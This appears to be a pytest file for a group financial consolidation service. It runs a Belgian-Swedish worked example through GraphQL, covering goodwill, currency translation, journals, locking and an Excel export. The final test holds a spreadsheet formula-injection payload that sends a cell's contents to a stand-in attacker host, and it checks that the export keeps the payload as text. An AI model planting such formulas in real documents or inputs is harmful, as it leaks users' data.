"""Consolidation against PostgreSQL and over GraphQL: the worked example from trial balances
in national charts, approved through the workflow, at ECB rates imported from the real file."""

from __future__ import annotations

import datetime as dt
import io
import shutil
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from litestar.testing import AsyncTestClient
from openpyxl import load_workbook

from hub.assembly.app import create_app
from hub.auth.policy import Principal, Role
from hub.auth.users import principal_for_token, upsert_user
from hub.consolidation import service as consolidation
from hub.consolidation.model import Balance, ConsolidationError, EntityInput
from hub.consolidation.register import service as register
from hub.consolidation.register.repository import LineAmount
from hub.fx.service import import_ecb
from hub.reporting import service
from hub.reporting.model import Dataset, StatementsIn, TrialBalanceLineIn
from hub.reporting.workflow import ReportAction
from hub.services import Hub, open_hub
from hub.settings import Settings
from tests.api.graphql_client import data, error_messages, gql
from tests.conftest import REPO
from tests.consolidation.worked_example import BELGIUM, BELGIUM_2023, SWEDEN, SWEDEN_2023

ECB = REPO / "hub" / "fx" / "data" / "eurofxref-hist-excerpt.csv"


@pytest.fixture
def settings_80(tmp_path: Path) -> Settings:
    """The network with Sweden held at 80 % (ownership shares are illustrative)."""
    for name in ("group_chart.toml", "reporting.toml", "limits.toml"):
        shutil.copy(REPO / "config" / name, tmp_path / name)
    network = (REPO / "config" / "network.toml").read_text(encoding="utf-8")
    (tmp_path / "network.toml").write_text(
        network.replace("ownership_share = 1.00", "ownership_share = 0.80"), encoding="utf-8"
    )
    return Settings(database_url=None, data_dir=tmp_path, config_dir=tmp_path)


@pytest.fixture
async def hub80(settings_80: Settings, database_url: str) -> AsyncIterator[Hub]:
    async with open_hub(settings_80, database_url, pool_size=4) as opened:
        yield opened


async def user(hub: Hub, name: str, role: Role, entity: str | None = None) -> tuple[str, Principal]:
    async with hub.db.transaction() as connection:
        token = await upsert_user(connection, name, role, entity)
        principal = await principal_for_token(connection, token)
    assert principal is not None
    return token, principal


def national_lines(hub: Hub, example: EntityInput) -> tuple[TrialBalanceLineIn, ...]:
    """The example's group-line balances as accounts of the entity's own chart."""
    chart = hub.countries[example.entity].profile.chart_of_accounts

    def account(balance: Balance) -> str:
        return next(
            a.code
            for a in chart.accounts
            if chart.group_line(a.code) == balance.line
            and a.intra_network == (balance.partner is not None)
            and a.investment == balance.investment
        )

    return tuple(
        TrialBalanceLineIn(
            account=account(b), amount=b.amount, currency=example.currency, partner=b.partner
        )
        for b in example.balances
    )


async def approve(
    hub: Hub, national: Principal, finance: Principal, example: EntityInput, period: str
) -> None:
    outcome = await service.save_statements(
        hub,
        national,
        StatementsIn(
            entity=example.entity, period=period, trial_balance=national_lines(hub, example)
        ),
    )
    assert isinstance(outcome, service.Saved), outcome
    for actor, action in ((national, ReportAction.SUBMIT), (finance, ReportAction.APPROVE)):
        await service.transition_report(
            hub,
            actor,
            entity=example.entity,
            period=period,
            dataset=Dataset.STATEMENTS,
            action=action,
            reason="worked example",
        )


async def record_sweden(hub: Hub, finance: Principal) -> None:
    """Belgium paid 100,000 EUR for 80 % of Sweden's capital on 31 Dec 2012 (ECB rate 8.582)."""
    await register.record_acquisition(
        hub,
        finance,
        register.AcquisitionIn(
            subsidiary="SE",
            acquired_on=dt.date(2012, 12, 31),
            share=Decimal("0.8"),
            consideration=Decimal(100_000),
            consideration_currency="EUR",
            equity=(LineAmount("BS.L.EQ.I", Decimal(-1_000_000)),),
            reason="Sweden's capital paid in by Belgium",
        ),
    )


@pytest.fixture
async def worked(hub80: Hub) -> dict[str, str]:
    """Both years of the worked example approved, rates imported; the tokens."""
    return await set_up_worked(hub80)


async def set_up_worked(hub80: Hub) -> dict[str, str]:
    tokens = {}
    tokens["finance"], finance = await user(hub80, "finance", Role.FINANCE)
    tokens["board"], _ = await user(hub80, "board", Role.BOARD)
    tokens["national-be"], belgium = await user(hub80, "national-be", Role.NATIONAL, "BE")
    tokens["national-se"], sweden = await user(hub80, "national-se", Role.NATIONAL, "SE")
    await import_ecb(hub80, ECB.read_bytes(), finance.user_id)
    await record_sweden(hub80, finance)
    for period, be, se in (("2023", BELGIUM_2023, SWEDEN_2023), ("2024", BELGIUM, SWEDEN)):
        await approve(hub80, belgium, finance, be, period)
        await approve(hub80, sweden, finance, se, period)
    return tokens


@pytest.fixture
async def client80(
    settings_80: Settings, database_url: str, worked: dict[str, str]
) -> AsyncIterator[AsyncTestClient[Any]]:
    async with AsyncTestClient(app=create_app(settings_80, database_url)) as test_client:
        yield test_client


QUERY = """
query C($period: String!, $entities: [String!]) {
  consolidation(period: $period, entities: $entities) {
    columns priorAvailable netResultGroup netResultNonControlling
    lines { line total prior change changePercent values { column amount } }
    differences { entity partner amount cause beyondTolerance }
    translations { entity closingRate averageRate translationReserve
                   reserveOpening reserveMovement openingSource }
    goodwill { subsidiary local closing atAcquisition translation }
    checks { name ok difference }
    sources { entity version status }
    ratesUsed { entity type rate }
  }
}
"""


async def test_the_worked_example_end_to_end(
    client80: AsyncTestClient[Any], worked: dict[str, str]
) -> None:
    body = data(await gql(client80, worked["board"], QUERY, period="2024", entities=["BE", "SE"]))
    result = body["consolidation"]
    assert result["columns"] == ["BE", "SE", "eliminations", "adjustments", "total"]
    lines = {line["line"]: line for line in result["lines"]}
    # The same figures as the arithmetic test (tests/consolidation/test_calc.py), now read from
    # trial balances in the Belgian (PCMN) and Swedish (BAS) charts, at the imported ECB rates.
    assert lines["BS.A"]["total"] == "2683220.18"
    assert lines["BS.L.EQ.NCI"]["total"] == "42796.06"
    assert lines["BS.L.PLUG"]["total"] == "-15839.08"
    assert lines["BS.A.FA.I"]["total"] == "5078.98"
    assert lines["BS.L.EQ.CTA"]["total"] == "-25341.87"
    assert result["goodwill"] == [
        {
            "subsidiary": "SE",
            "local": "58200.00",
            "closing": "5078.98",
            "atAcquisition": "6781.64",
            "translation": "-1702.66",
        }
    ]
    assert {v["column"]: v["amount"] for v in lines["IS.TI.PE.ACT"]["values"]} == {
        "BE": "3000000.00",
        "SE": "2607000.04",
        "eliminations": "0.00",
        "adjustments": "0.00",
    }
    assert (result["netResultGroup"], result["netResultNonControlling"]) == (
        "581605.07",
        "25401.27",
    )
    assert result["differences"] == [
        {
            "entity": "BE",
            "partner": "SE",
            "amount": "15839.08",
            "cause": "FX",
            "beyondTolerance": True,
        }
    ]
    # Comparatives: 2023 total assets = Belgium 2,100,000 + Sweden's cash 6,548,000 / 11.096
    # = 590,122.57 - the loan 500,000 - the investment 100,000 + goodwill 58,200 SEK at
    # 2023's closing rate, 5,245.13 = 2,095,367.70; change 587,852.48, +28.05 %.
    assert result["priorAvailable"] is True
    assert lines["BS.A"]["prior"] == "2095367.70"
    assert lines["BS.A"]["change"] == "587852.48"
    assert lines["BS.A"]["changePercent"] == "28.05"
    # Sweden's reserve: it opens at its equity carried from the acquisition (1,000,000 SEK at
    # 8.582 = 116,522.96) against 1,000,000 SEK at the opening rate (2023's closing, 11.096:
    # 90,122.57): -26,400.39; it closes at -29,549.02; the movement is the difference.
    [sweden] = result["translations"]
    assert sweden == {
        "entity": "SE",
        "closingRate": "11.459",
        "averageRate": "11.4325",
        "translationReserve": "-29549.02",
        "reserveOpening": "-26400.39",
        "reserveMovement": "-3148.63",
        "openingSource": "the acquisition of 2012-12-31",
    }
    assert all(check["ok"] for check in result["checks"])
    assert result["sources"] == [
        {"entity": "BE", "version": 1, "status": "approved"},
        {"entity": "SE", "version": 1, "status": "approved"},
    ]
    assert {(r["entity"], r["type"], r["rate"]) for r in result["ratesUsed"]} == {
        ("SE", "closing", "11.459"),
        ("SE", "average", "11.4325"),
        ("SE", "opening", "11.096"),
        ("SE", "acquisition", "8.582"),  # the ECB rate of 31 Dec 2012, the acquisition's day
    }


async def test_drill_down_from_a_group_figure_to_the_national_accounts(
    client80: AsyncTestClient[Any], worked: dict[str, str]
) -> None:
    query = """
    { consolidationDrillDown(period: "2024", line: "BS.A.CA.IX", entities: ["BE", "SE"]) {
        entity account localAmount currency rate groupAmount version } }
    """
    rows = data(await gql(client80, worked["finance"], query))["consolidationDrillDown"]
    assert rows == [
        {
            "entity": "BE",
            "account": "550000",
            "localAmount": "1980000",
            "currency": "EUR",
            "rate": "1",
            "groupAmount": "1980000.00",
            "version": 1,
        },
        {
            "entity": "SE",
            "account": "1910",
            "localAmount": "8000000",
            "currency": "SEK",
            "rate": "11.459",
            "groupAmount": "698141.20",
            "version": 1,
        },
    ]


async def test_runs_are_stored_and_reproducible(
    client80: AsyncTestClient[Any], worked: dict[str, str]
) -> None:
    mutation = (
        'mutation { runConsolidation(period: "2024", entities: ["BE", "SE"]) { id digest runBy } }'
    )
    first = data(await gql(client80, worked["finance"], mutation))["runConsolidation"]
    second = data(await gql(client80, worked["finance"], mutation))["runConsolidation"]
    assert first["digest"] == second["digest"]
    assert second["id"] == first["id"] + 1
    refused = await gql(client80, worked["board"], mutation)
    assert error_messages(refused) == [
        "the board role may not run consolidations and post adjustments"
    ]


async def test_what_cannot_be_consolidated_is_named(
    client80: AsyncTestClient[Any], worked: dict[str, str], hub80: Hub
) -> None:
    everyone = await gql(client80, worked["finance"], QUERY, period="2024")
    assert everyone["errors"][0]["extensions"]["problems"] == [
        "DE has no approved statements for 2024: consolidation runs on approved data only",
        "AT has no approved statements for 2024: consolidation runs on approved data only",
        "IT has no approved statements for 2024: consolidation runs on approved data only",
    ]
    async with hub80.db.pool.acquire() as connection:
        await connection.execute(
            "insert into account_mapping (entity_code, kind, first_account, last_account,"
            " line_code, starts_on, reason) values ('SE', 'account', '1910', '1910',"
            " null, date '1900-01-01', 'a corrected chart')"
        )
    report = (
        '{ unmappedAccounts(entity: "SE", period: "2024") '
        "{ version accounts { account balance } } }"
    )
    assert data(await gql(client80, worked["finance"], report))["unmappedAccounts"] == {
        "version": 1,
        "accounts": [{"account": "1910", "balance": "8000000"}],
    }
    unmapped = await gql(client80, worked["finance"], QUERY, period="2024", entities=["BE", "SE"])
    assert unmapped["errors"][0]["extensions"]["problems"] == [
        "SE: accounts with a balance are not mapped to the group chart: 1910 (8000000)"
    ]
    no_rates = await gql(client80, worked["finance"], QUERY, period="2025", entities=["BE", "SE"])
    assert no_rates["errors"][0]["extensions"]["problems"] == [
        "BE has no approved statements for 2025: consolidation runs on approved data only",
        "SE has no approved statements for 2025: consolidation runs on approved data only",
    ]


async def test_missing_rates_and_unapproved_data_are_named(hub80: Hub) -> None:
    _, finance = await user(hub80, "finance", Role.FINANCE)
    _, sweden = await user(hub80, "national-se", Role.NATIONAL, "SE")
    _, belgium = await user(hub80, "national-be", Role.NATIONAL, "BE")
    await approve(hub80, belgium, finance, BELGIUM, "2024")
    await approve(hub80, sweden, finance, SWEDEN, "2024")
    with pytest.raises(ConsolidationError) as raised:
        await consolidation.view(hub80, finance, "2024", ["BE", "SE"])
    assert raised.value.problems == [
        "SE: no closing rate for SEK in 2024: import the ECB rates or enter one",
        "SE: no average rate for SEK in 2024: import the ECB rates or enter one",
        "SE: no opening equity for 2024 (IAS 21 translates equity from where it was carried): "
        "lock the 2023 consolidation, enter an opening position for 2024, or record the "
        "acquisition",
    ]

    await approve(hub80, belgium, finance, BELGIUM, "2025")
    submitted = await service.save_statements(
        hub80,
        sweden,
        StatementsIn(entity="SE", period="2025", trial_balance=national_lines(hub80, SWEDEN)),
    )
    assert isinstance(submitted, service.Saved)
    await service.transition_report(
        hub80,
        sweden,
        entity="SE",
        period="2025",
        dataset=Dataset.STATEMENTS,
        action=ReportAction.SUBMIT,
        reason="first draft",
    )
    with pytest.raises(ConsolidationError) as unapproved:
        await consolidation.view(hub80, finance, "2025", ["BE", "SE"])
    assert unapproved.value.problems == [
        "SE has no approved statements for 2025: consolidation runs on approved data only"
    ]


JOURNAL = """
mutation J($input: JournalInput!) {
  postJournal(input: $input) { id reason author lines { line amount } }
}
"""


async def test_journals_adjust_reverse_and_lock(
    client80: AsyncTestClient[Any], worked: dict[str, str], hub80: Hub
) -> None:
    finance = worked["finance"]
    entry = {
        "period": "2024",
        "reason": "invoice of December booked in January",
        "lines": [
            {"line": "IS.PEC", "amount": "1000", "entity": "BE"},
            {"line": "BS.L.DE.IX.C", "amount": "-1000", "entity": "BE"},
        ],
    }
    posted = data(await gql(client80, finance, JOURNAL, input=entry))["postJournal"]
    assert posted["author"] == "finance"
    result = data(await gql(client80, finance, QUERY, period="2024", entities=["BE", "SE"]))
    lines = {line["line"]: line for line in result["consolidation"]["lines"]}
    adjustments = {v["column"]: v["amount"] for v in lines["IS.NET"]["values"]}["adjustments"]
    assert adjustments == "-1000.00"
    assert lines["IS.NET"]["total"] == "606006.34"

    unbalanced = await gql(
        client80,
        finance,
        JOURNAL,
        input={**entry, "lines": [entry["lines"][0], {"line": "BS.A", "amount": "-5"}]},
    )
    assert unbalanced["errors"][0]["extensions"]["problems"] == [
        "entries[1].line: BS.A is a total; post to its parts",
        "entries: debits and credits differ by 995",
    ]
    reverse = (
        'mutation R($id: Int!) { reverseJournal(id: $id, reason: "posted twice") { id reverses } }'
    )
    reversal = data(await gql(client80, finance, reverse, id=posted["id"]))["reverseJournal"]
    assert reversal["reverses"] == posted["id"]
    twice = await gql(client80, finance, reverse, id=posted["id"])
    assert error_messages(twice) == [
        f"journal {posted['id']} was already reversed by journal {reversal['id']}"
    ]

    lock = (
        'mutation { lockConsolidation(period: "2024", reason: "signed", entities: ["BE", "SE"]) '
        "{ locked runId at } }"
    )
    locked = data(await gql(client80, finance, lock))["lockConsolidation"]
    assert locked["locked"] is True
    named = (
        f"the 2024 consolidation is locked (run {locked['runId']}, locked by finance on "
        f"{locked['at'][:10]})"
    )
    refused = await gql(client80, finance, JOURNAL, input=entry)
    assert error_messages(refused) == [f"{named}: unlock it before posting a journal in 2024"]
    locked_reversal = await gql(client80, finance, reverse, id=reversal["id"])
    assert error_messages(locked_reversal) == [
        f"{named}: unlock it before reversing journal {reversal['id']}"
    ]
    async with hub80.db.pool.acquire() as connection:
        assert await connection.fetchval("select count(*) from journal") == 2


async def test_the_statements_workbook(
    client80: AsyncTestClient[Any], worked: dict[str, str]
) -> None:
    response = await client80.get(
        "/api/consolidation/2024/statements.xlsx",
        params={"entities": ["BE", "SE"]},
        headers={"Authorization": f"Bearer {worked['finance']}"},
    )
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == [
        "Balance sheet",
        "Income statement",
        "Eliminations",
        "Adjustments",
        "Translation",
        "Sources",
        "Sign-off",
    ]
    sheet = workbook["Balance sheet"]
    assert [c.value for c in sheet[4]][:7] == [
        "Line",
        "Label",
        "BE",
        "SE",
        "Eliminations",
        "Adjustments",
        "Total",
    ]
    assert sheet.freeze_panes == "C5"
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=5) if row[0].value}
    total = rows["BS.A"][6]
    assert total.value == pytest.approx(2683220.18)
    assert total.number_format == "#,##0.00;(#,##0.00);-"
    assert rows["BS.A"][7].value == pytest.approx(2095367.70)  # prior period
    assert rows["BS.L.PLUG"][6].value == pytest.approx(-15839.08)
    sources = workbook["Sources"]
    belgium = [c.value for c in sources[2]]
    assert (belgium[0], belgium[2], belgium[3]) == ("BE", 1, "approved")
    assert any(row[3].value == pytest.approx(11.459) for row in sources.iter_rows(min_row=4))
    refused = await client80.get(
        "/api/consolidation/2024/statements.xlsx",
        headers={"Authorization": f"Bearer {worked['finance']}"},
    )
    assert refused.status_code == 422
    assert (
        refused.json()["problems"][0]
        == "DE has no approved statements for 2024: consolidation runs on approved data only"
    )


async def test_a_journal_reason_stays_text_in_the_statements_workbook(
    client80: AsyncTestClient[Any], worked: dict[str, str]
) -> None:
    reason = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
    entry = {
        "period": "2024",
        "reason": reason,
        "lines": [
            {"line": "IS.PEC", "amount": "1000", "entity": "BE"},
            {"line": "BS.L.DE.IX.C", "amount": "-1000", "entity": "BE"},
        ],
    }
    data(await gql(client80, worked["finance"], JOURNAL, input=entry))
    response = await client80.get(
        "/api/consolidation/2024/statements.xlsx",
        params={"entities": ["BE", "SE"]},
        headers={"Authorization": f"Bearer {worked['finance']}"},
    )
    assert response.status_code == 200
    adjustments = load_workbook(io.BytesIO(response.content))["Adjustments"]
    cells = [cell for row in adjustments.iter_rows() for cell in row if cell.value == reason]
    assert cells
    assert {cell.data_type for cell in cells} == {"s"}
